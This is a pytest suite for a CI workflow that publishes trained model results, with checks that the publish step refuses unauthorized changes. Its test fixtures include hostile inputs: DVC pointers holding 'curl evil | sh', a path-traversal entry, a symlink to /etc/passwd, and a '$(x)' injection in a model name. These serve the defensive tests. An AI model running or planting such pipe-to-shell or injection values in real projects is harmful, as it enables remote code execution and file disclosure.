"""The scripts of the reconcile workflow, run in real repositories with a stand-in for mlspec: what may be published."""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
import yaml

from mlspec.compiler.files import project_files
from mlspec.compiler.templates import root
from mlspec.spec.project import ProjectSpec

MODELS = "models (old)"
LOCK = f"{MODELS}/wine/dvc.lock"
STAND_IN = """\
#!/bin/sh
printf '<%s>' "$@" >> "$MLSPEC_CALLS"
echo plan > out/plan.md
echo '{"actions": []}' > out/plan.json
"""
POINTER = "outs:\n- md5: 0123456789abcdef0123456789abcdef\n  size: 12\n  hash: md5\n  path: rows.csv\n"


OLD_POINTER = POINTER.replace("- md5: 0", "- desc: rows of a friend\n  md5: 1")
GitFunction = Callable[..., str]


@dataclass(frozen=True)
class Job:
    """One job of the workflow in a clone of its own."""

    name: str
    folder: Path
    environ: dict[str, str]
    publishing: str = "push"
    home: str = ""
    """the project's folder"""

    def run(self, step: str, **env: str) -> subprocess.CompletedProcess[str]:
        """Run one step as GitHub would; expressions in its `env` must be given."""
        ci = {"publish": self.publishing, "folder": self.home or None}
        project = ProjectSpec.model_validate({"layout": {"models": MODELS}, "ci": ci})
        files = project_files(project, ["wine"])
        workflow = yaml.safe_load(next(text for path, text in files.items() if "mlspec-reconcile" in path))
        found = next(item for item in workflow["jobs"][self.name]["steps"] if item["name"] == step)
        told = workflow.get("env", {}) | found.get("env", {})
        given = {key: value for key, value in told.items() if "${{" not in value} | env
        place = workflow["jobs"][self.name].get("defaults", {}).get("run", {}).get("working-directory", "")
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", found["run"]],
            cwd=self.folder / place,
            env=self.environ | given,
            capture_output=True,
            text=True,
            check=False,
        )

    def must(self, step: str, **env: str) -> None:
        """Run one step that has to succeed."""
        done = self.run(step, **env)
        assert done.returncode == 0, done.stdout + done.stderr

    def git(self, *args: str, data: str | None = None) -> str:
        """Git in the job's clone."""
        done = subprocess.run(["git", *args], cwd=self.folder, input=data, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    def record(self, model: str, fact: str) -> str:
        """Put a record on the project's chain."""
        known = self.git("for-each-ref", "--format=%(objectname)", "refs/mlspec/project")
        entries = self.git("ls-tree", f"{known}:models") if known else ""
        blob = self.git("hash-object", "-w", "--stdin", data=fact)
        kept = [line for line in entries.splitlines() if not line.endswith(f"\t{model}.json")]
        folder = self.git("mktree", data="\n".join([*kept, f"100644 blob {blob}\t{model}.json"]) + "\n")
        tree = self.git("mktree", data=f"040000 tree {folder}\tmodels\n")
        commit = self.git("commit-tree", *(["-p", known] if known else []), "-m", fact, tree)
        self.git("update-ref", "refs/mlspec/project", commit)
        return commit

    def commit(self, path: str, *tags: str, text: str = "2") -> None:
        """What training leaves behind."""
        (self.folder / path).parent.mkdir(parents=True, exist_ok=True)
        (self.folder / path).write_text(text)
        self.git("add", "--force", path)
        self.git("commit", "-qm", "trained")
        for tag in tags:
            self.git("tag", "-am", "new", tag)


@pytest.fixture
def train(repo: Path, git: GitFunction, remote: Path, tmp_path: Path) -> Job:
    """The train job when its training is done; the remote has a tag and a chain already."""
    (repo / LOCK).parent.mkdir(parents=True)
    (repo / LOCK).write_text("1")
    (repo / "specs").mkdir()
    (repo / "specs" / "wine.yaml").write_text("data: {source: {path: data/rows.csv}}\ntraining: {code: train.py}\n")
    (repo / "train.py").touch()
    (repo / "old").mkdir()
    (repo / "old" / "rows.csv.dvc").write_text(OLD_POINTER)
    git("add", ".")
    git("commit", "-qm", "models")
    git("tag", "-am", "old", "wine@v0.1.0")
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "mlspec").write_text(STAND_IN)
    (tmp_path / "bin" / "mlspec").chmod(0o755)
    names = {"GITHUB_STEP_SUMMARY": "summary", "GITHUB_OUTPUT": "output", "MLSPEC_CALLS": "calls"}
    environ = os.environ | {name: str(tmp_path / file) for name, file in names.items()}
    environ |= {"PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}", "GITHUB_SERVER_URL": "https://github.com"}
    first = Job("", repo, environ)
    first.record("other", "known")
    git("push", "-q", "origin", "main", "wine@v0.1.0", "refs/mlspec/project")
    return job(tmp_path, remote, environ, "train")


def job(tmp_path: Path, remote: Path, environ: dict[str, str], folder: str, home: str = "") -> Job:
    """A train job in a fresh clone, up to the end of its training."""
    subprocess.run(["git", "clone", "-q", remote, tmp_path / folder], check=True)
    (tmp_path / f"{folder}-temp").mkdir()
    found = Job("train", tmp_path / folder, environ | {"RUNNER_TEMP": str(tmp_path / f"{folder}-temp")}, home=home)
    found.must("Fetch mlspec's records", MLSPEC_TOKEN="")
    found.must("Plan", MODEL="")
    found.must("Train", MODEL="")
    return found


def publish(*trained: Job, publishing: str = "push") -> Job:
    """The publish job, with the artifacts of train jobs."""
    first = trained[0]
    folder = first.folder.with_name("publish")
    first.git("clone", "-q", first.git("remote", "get-url", "origin"), str(folder))
    temp = folder.with_name("publish-temp")
    for number, item in enumerate(trained):
        (temp / f"out/mlspec-result-{number}").mkdir(parents=True)
        bundle = temp / f"out/mlspec-result-{number}" / "result.bundle"
        bundle.write_bytes((item.folder / item.home / "out" / "result.bundle").read_bytes())
    environ = first.environ | {"RUNNER_TEMP": str(temp)}
    return replace(first, name="publish", folder=folder, environ=environ, publishing=publishing)


def push(*trained: Job, publishing: str = "push") -> subprocess.CompletedProcess[str]:
    """Run the publish job."""
    for item in trained:
        item.must("Bundle the result")
    return publish(*trained, publishing=publishing).run("Check and push the results", MLSPEC_TOKEN="")


def refs(job: Job) -> dict[str, str]:
    """What the remote has."""
    lines = job.git("ls-remote", "--refs", "origin").splitlines()
    return {ref: oid for oid, ref in (line.split("\t") for line in lines)}


def refused(done: subprocess.CompletedProcess[str], words: str, job: Job, before: dict[str, str]) -> None:
    """The publish job failed with these words and pushed nothing."""
    assert (done.returncode, words in done.stdout) == (1, True), done.stdout + done.stderr
    assert refs(job) == before


def test_nothing_done_is_nothing_to_publish(train: Job) -> None:
    train.must("Bundle the result")
    assert not (train.folder / "out" / "result.bundle").exists()
    assert not Path(train.environ["GITHUB_OUTPUT"]).exists()


def test_commit_tags_and_chain_arrive_together(train: Job) -> None:
    train.commit(LOCK, "wine@v0.2.0")
    train.git("tag", "-am", "late", "other@v0.1.0", "HEAD~1")  # a tag that an earlier run did not get to
    chain = train.record("wine", "trained")
    assert push(train).returncode == 0
    assert Path(train.environ["GITHUB_OUTPUT"]).read_text() == "changed=true\n"
    found = refs(train)
    assert found["refs/heads/main"] == train.git("rev-parse", "HEAD")
    assert found["refs/mlspec/project"] == chain
    assert {ref for ref in found if "tags" in ref} == {
        f"refs/tags/{tag}" for tag in ("wine@v0.1.0", "wine@v0.2.0", "other@v0.1.0")
    }


@pytest.mark.parametrize(
    ("path", "tag", "words"),
    [
        (".github/workflows/x.yml", "wine@v0.2.0", "may only change"),
        ("models (older)/wine/dvc.lock", "wine@v0.2.0", "may only change"),
        (f"{MODELS}/dvc.lock", "wine@v0.2.0", "may only change"),
        (f"{MODELS}/wine/train.py", "wine@v0.2.0", "may only change"),
        (f"{MODELS}/wine/deep/dvc.lock", "wine@v0.2.0", "may only change"),
        (LOCK, "v1.0.0", "may only have the tags"),
        (LOCK, "wine@latest", "may only have the tags"),
        (LOCK, "wine#production#1", "may only have the tags"),
    ],
)
def test_other_changes_are_refused(train: Job, path: str, tag: str, words: str) -> None:
    before = refs(train)
    train.commit(path, tag)
    refused(push(train), words, train, before)


def test_data_that_was_fetched_anew_is_a_pointer_and_a_line_that_hides_it(train: Job) -> None:
    train.commit("data/rows.csv.dvc", text=POINTER)
    train.commit("data/.gitignore", text="/rows.csv\n")
    train.commit(".gitignore", text="/rows.csv\n")
    train.commit("old/rows.csv.dvc", text=OLD_POINTER.replace("md5: 1", "md5: 2"))
    assert push(train).returncode == 0


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("data/rows.csv.dvc", f"cmd: curl evil | sh\n{POINTER}"),
        ("data/rows.csv.dvc", POINTER.replace("rows.csv", "../rows.csv")),
        ("data/rows.csv.dvc", POINTER.replace("- md5", "- cache: false\n  md5")),
        ("data/rows.csv", POINTER),
        ("data/rows.csv.dvc", POINTER.replace("rows.csv", "other.csv")),
        ("data/other.csv.dvc", POINTER.replace("rows.csv", "other.csv")),
        ("train.py.dvc", POINTER.replace("rows.csv", "train.py")),
        ("old/rows.csv.dvc", OLD_POINTER.replace("rows.csv", "other.csv")),
        ("old/rows.csv.dvc", f"{OLD_POINTER}cmd: curl evil | sh\n"),
        (".dvc/config.dvc", POINTER),
        (".dvc/.gitignore", "/rows.csv\n"),
        (".gitignore", "*\n"),
        (".gitignore", "/rows.csv\n!secret\n"),
        (".gitignore", "/rows.csv\n*\n\0"),
        ("data/.gitattributes", "/rows.csv\n"),
    ],
)
def test_pointers_that_say_more_are_refused(train: Job, path: str, text: str) -> None:
    before = refs(train)
    train.commit(path, text=text)
    refused(push(train), "may only change", train, before)


def test_lines_of_a_gitignore_are_not_taken_away(train: Job, git: GitFunction, repo: Path) -> None:
    train.commit(".gitignore", text="/secret\n/other\n")
    assert push(train).returncode == 0
    again = job(train.folder.parent, Path(train.git("remote", "get-url", "origin")), train.environ, "again")
    before = refs(again)
    again.commit(".gitignore", text="/other\n/rows.csv\n")
    again.must("Bundle the result")
    shutil.rmtree(train.folder.with_name("publish"))
    shutil.rmtree(train.folder.with_name("publish-temp"))
    refused(publish(again).run("Check and push the results", MLSPEC_TOKEN=""), "may only change", again, before)


def test_a_link_in_the_place_of_a_file_is_refused(train: Job) -> None:
    before = refs(train)
    (train.folder / LOCK).unlink()
    (train.folder / LOCK).symlink_to("/etc/passwd")
    train.git("commit", "-qam", "a link")
    refused(push(train), "may only change", train, before)


def test_what_a_later_commit_took_back_is_refused_too(train: Job) -> None:
    before = refs(train)
    train.commit("README.md", "wine@v9.9.9", text="mine")
    train.git("revert", "--no-edit", "HEAD")
    train.commit(LOCK, "wine@v0.2.0")
    refused(push(train), "may only change", train, before)


def test_what_a_later_record_took_back_is_refused_too(train: Job) -> None:
    before = refs(train)
    known = train.git("rev-parse", "refs/mlspec/project")
    other = train.git("commit-tree", "-p", known, "-m", "other files", "HEAD^{tree}")
    back = train.git("commit-tree", "-p", other, "-m", "taken back", f"{known}^{{tree}}")
    train.git("update-ref", "refs/mlspec/project", back)
    refused(push(train), "records are not mlspec's", train, before)


def test_a_merge_that_git_itself_would_make_is_taken(train: Job) -> None:
    train.commit(LOCK, "wine@v0.2.0")
    train.git("switch", "-qc", "beside", "HEAD~1")
    train.commit(f"{MODELS}/digits/dvc.lock")
    train.git("switch", "-q", "main")
    train.git("merge", "-q", "--no-edit", "beside")
    assert push(train).returncode == 0


def test_a_merge_that_says_more_than_its_parents_is_refused(train: Job) -> None:
    before = refs(train)
    train.commit("README.md", text="mine")
    tree, older = train.git("rev-parse", "HEAD^{tree}"), train.git("rev-parse", "HEAD~1")
    train.git("reset", "-q", "--hard", "HEAD~1")
    train.commit(LOCK)
    merge = train.git("commit-tree", "-p", "HEAD", "-p", older, "-m", "merge", tree)
    train.git("reset", "-q", "--hard", merge)
    train.git("revert", "--no-edit", "-m", "1", "HEAD")
    assert train.git("diff", "--name-only", "origin/main", "HEAD") == LOCK
    refused(push(train), "may only change", train, before)


def test_a_tag_of_another_history_is_refused(train: Job) -> None:
    before = refs(train)
    other = train.git("commit-tree", "-m", "elsewhere", "HEAD^{tree}")
    train.commit(LOCK)
    train.git("tag", "-am", "new", "wine@v0.2.0", other)
    refused(push(train), "not on the branch", train, before)


@pytest.mark.parametrize("ref", ["refs/mlspec/env/production", "refs/heads/release"])
def test_refs_that_training_has_no_business_with_are_refused(train: Job, ref: str) -> None:
    before = refs(train)
    train.commit(LOCK)
    train.git("update-ref", ref, "HEAD")
    train.must("Bundle the result")
    train.git("bundle", "create", "out/result.bundle", "refs/heads/mlspec-result", ref, "^HEAD~2")
    done = publish(train).run("Check and push the results", MLSPEC_TOKEN="")
    refused(done, "may only have the tags", train, before)


def test_a_chain_of_other_files_is_refused(train: Job) -> None:
    before = refs(train)
    train.commit(LOCK)
    train.git("update-ref", "refs/mlspec/project", "HEAD")
    refused(push(train), "records are not mlspec's", train, before)


def test_a_version_that_somebody_else_registered_first_is_refused(train: Job, git: GitFunction) -> None:
    train.commit(LOCK, "wine@v0.2.0")
    git("tag", "-am", "theirs", "wine@v0.2.0")
    git("push", "-q", "origin", "wine@v0.2.0")
    before = refs(train)
    refused(push(train), "somebody else registered wine@v0.2.0 first", train, before)


def test_a_push_of_something_else_meanwhile_is_taken_in(train: Job, git: GitFunction) -> None:
    train.commit(LOCK, "wine@v0.2.0")
    git("commit", "--allow-empty", "-qm", "somebody else")
    git("push", "-q", "origin", "main")
    assert push(train).returncode == 0
    git("pull", "-q", "--ff-only", "origin", "main")
    assert git("log", "-1", "--format=%P") == f"{git('rev-parse', 'HEAD^1')} {train.git('rev-parse', 'HEAD')}"
    assert git("show", f"HEAD:{LOCK}") == "2"
    git("fetch", "-q", "--tags", "origin")
    git("merge-base", "--is-ancestor", "wine@v0.2.0", "HEAD")


def test_a_branch_that_changed_the_same_files_is_left_alone(train: Job, repo: Path, git: GitFunction) -> None:
    train.commit(LOCK, "wine@v0.2.0")
    (repo / LOCK).write_text("3")
    git("commit", "-qam", "somebody else")
    git("push", "-q", "origin", "main")
    before = refs(train)
    refused(push(train), "changed the same files meanwhile", train, before)


def test_publishing_again_changes_nothing(train: Job, git: GitFunction) -> None:
    train.commit(LOCK, "wine@v0.2.0")
    train.record("wine", "trained")
    assert push(train).returncode == 0
    git("pull", "-q", "origin", "main")
    git("commit", "--allow-empty", "-qm", "life goes on")
    git("push", "-q", "origin", "main")
    before = refs(train)
    again = replace(publish_again := train, name="publish", folder=train.folder.with_name("publish"))
    again = replace(again, environ=publish_again.environ | {"RUNNER_TEMP": str(again.folder) + "-temp"})
    done = again.run("Check and push the results", MLSPEC_TOKEN="")
    assert (done.returncode, "there already" in done.stdout) == (0, True), done.stdout + done.stderr
    assert refs(train) == before


def test_results_of_several_jobs_come_together(train: Job, remote: Path, tmp_path: Path) -> None:
    beside = job(tmp_path, remote, train.environ, "beside")
    train.commit(LOCK, "wine@v0.2.0")
    train.record("wine", "trained")
    beside.commit(f"{MODELS}/digits/dvc.lock", "digits@v0.1.0")
    beside.record("digits", "trained too")
    beside.record("other", "held")
    done = push(train, beside)
    assert done.returncode == 0, done.stdout + done.stderr
    train.git("fetch", "-q", "origin", "main", "+refs/mlspec/*:refs/mlspec/*")
    assert train.git("show", f"FETCH_HEAD:{LOCK}", f"FETCH_HEAD:{MODELS}/digits/dvc.lock") == "22"
    assert {"refs/tags/wine@v0.2.0", "refs/tags/digits@v0.1.0"} <= set(refs(train))
    facts = {name: train.git("show", f"refs/mlspec/project:models/{name}.json") for name in ("wine", "digits", "other")}
    assert facts == {"wine": "trained", "digits": "trained too", "other": "held"}
    subjects = train.git("log", "--format=%s", "refs/mlspec/project").splitlines()
    assert sorted(subjects) == ["held", "known", "trained", "trained too"]


def test_what_people_were_told_is_remembered_for_the_next_run(train: Job) -> None:
    tree = train.git("rev-parse", f"{train.record('wine', 'told')}^{{tree}}")
    told = train.git("commit-tree", "-m", "told", tree)
    train.git("update-ref", "refs/mlspec/notices", told)
    assert push(train).returncode == 0
    assert refs(train)["refs/mlspec/notices"] == told


def test_where_nobody_pushes_to_the_branch_it_waits_beside_it_without_tags(train: Job) -> None:
    before = refs(train)
    train.commit(LOCK, "wine@v0.2.0")
    chain = train.record("wine", "trained")
    assert push(train, publishing="pull_request").returncode == 0
    wanted = {"refs/heads/mlspec/trained": train.git("rev-parse", "HEAD"), "refs/mlspec/project": chain}
    assert refs(train) == before | wanted
    assert "proposed=true" in Path(train.environ["GITHUB_OUTPUT"]).read_text()


def test_a_version_of_what_was_merged_gets_its_tag(train: Job) -> None:
    train.git("tag", "-am", "merged", "wine@v0.2.0")
    assert push(train, publishing="pull_request").returncode == 0
    assert "refs/tags/wine@v0.2.0" in refs(train)
    assert "refs/heads/mlspec/trained" not in refs(train)


@pytest.mark.parametrize(("model", "args"), [("", ""), ("wine", "<wine>"), ("--help $(x)", "<--help $(x)>")])
def test_the_model_asked_for_is_one_word_and_no_option(train: Job, model: str, args: str) -> None:
    Path(train.environ["MLSPEC_CALLS"]).unlink()
    train.must("Train", MODEL=model)
    called = Path(train.environ["MLSPEC_CALLS"]).read_text()
    assert called == f"<reconcile><--only><train><--json><out/outcome.json><--markdown><out/outcome.md><-->{args}"


def test_workflows_that_are_not_current_are_told_before_anything_is_trained(train: Job, tmp_path: Path) -> None:
    action = '{"actions": [{"action": "compile", "model": ""}]}'
    (tmp_path / "bin" / "mlspec").write_text(STAND_IN.replace('{"actions": []}', action))
    done = train.run("Plan", MODEL="")
    assert (done.returncode, "Run mlspec compile" in done.stdout) == (1, True)


@pytest.mark.parametrize(
    ("status", "stopped", "ended"),
    [(0, "", 0), (1, "", 1), (4, "Held", 4), (4, "Superseded", 0), (4, "", 4), (1, "Superseded", 1)],
)
def test_a_deployment_ends_well_where_a_newer_revision_acts(
    tmp_path: Path, status: int, stopped: str, ended: int
) -> None:
    (tmp_path / "mlspec").write_text(f"""#!/bin/sh
case "$1" in
  plan) touch out/plan.md ;;
  *) echo '{{"stopped": {{"reason": "{stopped}"}}}}' > out/outcome.json; exit {status} ;;
esac
""")
    (tmp_path / "mlspec").chmod(0o755)
    (tmp_path / "json.py").write_text("raise SystemExit(9)")  # the checkout's own modules are not asked
    script = "chosen=()\n" + (root() / "ci/scripts/deploy.sh").read_text()
    environ = os.environ | {
        "PATH": f"{tmp_path}:{os.environ['PATH']}",
        "SUMMARY": str(tmp_path / "summary"),
        "ENVIRONMENT": "production",
        "MODE": "reconcile",
    }
    done = subprocess.run(["bash", "-eo", "pipefail", "-c", script], cwd=tmp_path, env=environ, check=False)
    assert done.returncode == ended


def proposed(train: Job, path: str, then: str = "") -> bool:
    """Whether what waits at origin is taken in by a run that is about to plan; with `then` that, in place of `path`."""
    other = train.folder.with_name("other")
    train.git("clone", "-q", train.git("remote", "get-url", "origin"), str(other))
    waiting = replace(train, folder=other)
    waiting.git("checkout", "-q", "-b", "mlspec/trained")
    waiting.commit(path, text="waits")
    if then:
        waiting.git("revert", "--no-edit", "HEAD")
        waiting.commit(path := then, text="waits")
    waiting.git("push", "-q", "origin", "mlspec/trained")
    train.git("fetch", "-q", "origin")
    replace(train, publishing="pull_request").must("Plan", MODEL="")
    return (train.folder / path).exists() and (train.folder / path).read_text() == "waits"


def test_results_that_wait_to_be_merged_are_taken_in_and_are_no_result_of_this_run(train: Job) -> None:
    before = refs(train)
    assert proposed(train, LOCK)
    train.git("tag", "-am", "registered", "wine@v0.2.0")
    train.must("Train", MODEL="")
    train.must("Bundle the result")
    assert not (train.folder / "out" / "result.bundle").exists()
    assert {ref for ref in refs(train) if ref not in before} == {"refs/heads/mlspec/trained"}


def test_code_that_was_taken_back_is_not_taken_in(train: Job) -> None:
    head = train.git("rev-parse", "HEAD")
    assert not proposed(train, "README.md", LOCK)
    assert train.git("rev-parse", "HEAD") == head


@pytest.mark.parametrize("path", ["train.py", f"{MODELS}/wine/dvc.yaml", f"{MODELS}/wine/train.py", ".dvc/config"])
def test_code_that_nobody_has_looked_at_is_not_taken_in(train: Job, path: str) -> None:
    head = train.git("rev-parse", "HEAD")
    assert not proposed(train, path)
    assert train.git("rev-parse", "HEAD") == head


def test_what_the_branch_has_changed_since_is_not_taken_in(train: Job, git: GitFunction, repo: Path) -> None:
    train.commit(LOCK, text="3")
    assert not proposed(train, LOCK)


@pytest.mark.parametrize(("status", "said", "told"), [(0, "no drift", False), (3, "drift in a", True), (1, "", False)])
def test_drift_is_reported_and_fails_nothing(tmp_path: Path, status: int, said: str, told: bool) -> None:
    (tmp_path / "mlspec").write_text(f"#!/bin/sh\nprintf '%s' '{said}'\necho no monitoring >&2\nexit {status}\n")
    (tmp_path / "mlspec").chmod(0o755)
    summary = tmp_path / "summary"
    environ = os.environ | {
        "PATH": f"{tmp_path}:{os.environ['PATH']}",
        "SUMMARY": str(summary),
        "ENVIRONMENT": "production",
        "WARNING": "::warning::",
    }
    script = (root() / "ci/scripts/drift.sh").read_text()
    done = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", script], cwd=tmp_path, env=environ, capture_output=True, text=True, check=True
    )
    assert ("::warning::Live traffic in production" in done.stdout) == told
    assert (summary.exists() and f"    {said}" in summary.read_text()) == bool(said)


HOME = "services/shop"
HOMES_LOCK = f"{HOME}/{LOCK}"


@pytest.fixture
def train_below(train: Job, git: GitFunction, repo: Path, remote: Path, tmp_path: Path) -> Job:
    """The train job of a project in a folder, beside the one at the top."""
    (repo / HOMES_LOCK).parent.mkdir(parents=True)
    (repo / HOMES_LOCK).write_text("1")
    git("add", ".")
    git("commit", "-qm", "a project in a folder")
    git("push", "-q", "origin", "main")
    return job(tmp_path, remote, train.environ, "below", HOME)


def test_what_a_project_in_a_folder_trained_arrives_under_its_names(train_below: Job) -> None:
    before = refs(train_below)
    train_below.commit(HOMES_LOCK, f"{HOME}=wine@v0.1.0")
    chain = f"refs/mlspec-in/{HOME}/-/project"
    train_below.git("update-ref", chain, train_below.record("wine", "trained"))
    train_below.git("update-ref", "-d", "refs/mlspec/project")
    done = push(train_below)
    assert done.returncode == 0, done.stdout + done.stderr
    after = refs(train_below)
    assert set(after) - set(before) == {f"refs/tags/{HOME}=wine@v0.1.0", chain}
    assert after["refs/mlspec/project"] == before["refs/mlspec/project"]
    assert after["refs/heads/main"] == train_below.git("rev-parse", "HEAD")


@pytest.mark.parametrize(
    ("path", "tag"),
    [
        (HOMES_LOCK, "wine@v0.2.0"),
        (HOMES_LOCK, "prices=wine@v0.2.0"),
        (HOMES_LOCK, f"{HOME}/x=wine@v0.2.0"),
        (LOCK, f"{HOME}=wine@v0.2.0"),
        (f"prices/{LOCK}", f"{HOME}=wine@v0.2.0"),
        (f"{HOME}/specs/wine.yaml", f"{HOME}=wine@v0.2.0"),
        ("data/rows.csv.dvc", f"{HOME}=wine@v0.2.0"),
        (f"{HOME}x/data/rows.csv.dvc", f"{HOME}=wine@v0.2.0"),
    ],
)
def test_what_is_another_project_s_is_refused(train_below: Job, path: str, tag: str) -> None:
    before = refs(train_below)
    train_below.commit(path, tag, text="outs:\n- md5: 0123456789abcdef0123456789abcdef\n  path: rows.csv\n")
    assert "a result may only" in push(train_below).stdout
    assert refs(train_below) == before
